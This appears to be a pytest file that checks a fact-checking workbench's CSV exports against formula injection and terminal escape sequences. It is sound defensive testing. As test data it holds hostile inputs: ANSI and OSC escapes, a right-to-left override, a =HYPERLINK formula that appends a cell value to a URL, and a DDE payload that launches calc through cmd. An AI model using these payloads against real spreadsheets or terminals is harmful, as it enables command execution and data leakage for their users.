"""CSV outputs (`extract --format csv`, `export --format csv`, the app's CSV download) hold text a terminal and a
spreadsheet show as text: control characters made visible, formula starts behind an apostrophe.

Golden files: ``tests/golden/extract.csv`` and ``tests/golden/export.csv``, from hand-built claims whose cells
carry every hostile shape; regenerate with ``UPDATE_GOLDEN=1`` and review the diff.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
from pathlib import Path

import pytest
from conftest import run_workbench
from ledger_support import report_for, write_draft

from workbench.drafts import Draft, load_draft
from workbench.ledger import ledger_path, refresh_ledger, save_ledger
from workbench.models import Claim, DraftInfo, Evidence, ExtractionReport, Verdict
from workbench.reports import published_csv
from workbench.reports.claims import render_claims
from workbench.reports.published import Publication, Row

GOLDEN = Path(__file__).parent / "golden"
# Anything that moves a terminal's cursor, rings it, recolours it or reorders text; tab and newline are data.
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
HOSTILE = [
    "Exports rose \x1b[2J\x1b[31m12%\x1b[0m in 2022\x07.",  # clears and recolours a terminal, rings it
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"12%\")",
    "  +12% according to the ministry",  # spaces then a formula start: trimmed on import, then evaluated
    "@SUM(1+1)",
    "-12% since the harbour closed",
    "\ttabbed start",
    "line one\rline two overwrites it",
    "\u202eSDROW DESREVER",  # a right-to-left override reorders what a reader sees
    "\x9b31m C1 escape",
    "plain 12% and\na second line",
]


def _claims() -> list[Claim]:
    return [Claim(id=f"c-{i:08x}", text=text[:12], start=i * 100, end=i * 100 + 12, line=i + 1, column=1,
                  sentence=text, value=12.0 - i, unit="%", subject=text, entities=[text, "Ruritania"])
            for i, text in enumerate(HOSTILE)]


def _publication() -> Publication:
    draft = Draft(path="drafts/hostile.md", text="", sha256="0" * 64)
    rows = []
    for claim, note in zip(_claims(), reversed(HOSTILE), strict=True):
        evidence = Evidence(resource="trade", row=2, metric="exports", period="2022", value=-3.0, unit="%",
                            source=note, url="https://example.org/x", claimed=claim.value, deviation=0.1,
                            supports=False, score=0.5)
        rows.append(Row(claim=claim, verdict=Verdict.contradicted, auto_verdict=Verdict.needs_review,
                        reviewed=True, explanation=note, evidence=[evidence], reviewer=note,
                        reviewed_at=dt.datetime(2024, 5, 6, 7, 8, 9, tzinfo=dt.UTC), note=note))
    return Publication(draft, rows, "the ledger (revision 2)")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_safe(text: str) -> None:
    assert not CONTROL.search(text), repr(CONTROL.search(text))
    for cell in _cells(text):
        if re.fullmatch(r"-?\d+(\.\d+)?", cell):
            continue  # a negative number is a number to a spreadsheet too, not a formula
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n")), cell


@pytest.mark.parametrize(("name", "render"), [
    ("extract.csv", lambda: render_claims(
        ExtractionReport(draft=DraftInfo(path="drafts/hostile.md", sha256="0" * 64), claims=_claims()), "csv")),
    ("export.csv", lambda: published_csv.render(_publication())),
])
def test_csv_golden(name: str, render) -> None:
    rendered = render()
    golden = GOLDEN / name
    if os.environ.get("UPDATE_GOLDEN") == "1":
        golden.write_text(rendered, encoding="utf-8", newline="")
    assert rendered == golden.read_bytes().decode("utf-8")
    _assert_safe(rendered)


def test_a_csv_keeps_what_the_text_says_visible_and_numbers_as_numbers() -> None:
    rows = list(csv.DictReader(io.StringIO(published_csv.render(_publication()))))
    first = rows[0]
    assert first["sentence"] == "Exports rose \\x1b[2J\\x1b[31m12%\\x1b[0m in 2022\\x07."
    assert rows[1]["sentence"].startswith("'=HYPERLINK(")
    assert rows[2]["sentence"] == "'  +12% according to the ministry"
    assert rows[6]["sentence"] == "line one\\x0dline two overwrites it"
    assert rows[9]["sentence"] == "plain 12% and\na second line"  # a line break is data, quoted by csv
    assert first["evidence_value"] == "-3.0" and rows[4]["value"] == "8.0"  # numbers are not prefixed


def test_a_draft_and_a_note_of_control_characters_reach_no_csv_raw(tmp_path: Path) -> None:
    draft = write_draft(tmp_path, sentences=3)
    text = draft.read_text(encoding="utf-8")
    draft.write_text(text.replace(" the ", " the\x1b[5m\x07 ", 1), encoding="utf-8")
    path = ledger_path(draft, tmp_path / "claims")
    ledger = save_ledger(refresh_ledger(load_draft(draft), report_for(draft), None), path, expected_revision=0)
    claim_id = next(iter(ledger.claims))
    result = run_workbench("review", draft, "--claims", path.parent, "--set", f"{claim_id}=supported",
                           "--reviewer", "=cmd|' /C calc'!A0", "--note", "seen \x1b]0;pwned\x07 here", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    extracted = run_workbench("extract", draft, "--format", "csv", cwd=tmp_path)
    exported = run_workbench("export", draft, "--claims", path.parent, "--format", "csv", cwd=tmp_path)
    for run in (extracted, exported):
        assert run.returncode == 0, run.stderr
        _assert_safe(run.stdout)
    assert "the\\x1b[5m\\x07 " in extracted.stdout
    row = next(r for r in csv.DictReader(io.StringIO(exported.stdout)) if r["id"] == claim_id)
    assert row["note"] == "seen \\x1b]0;pwned\\x07 here" and row["reviewer"] == "'=cmd|' /C calc'!A0"
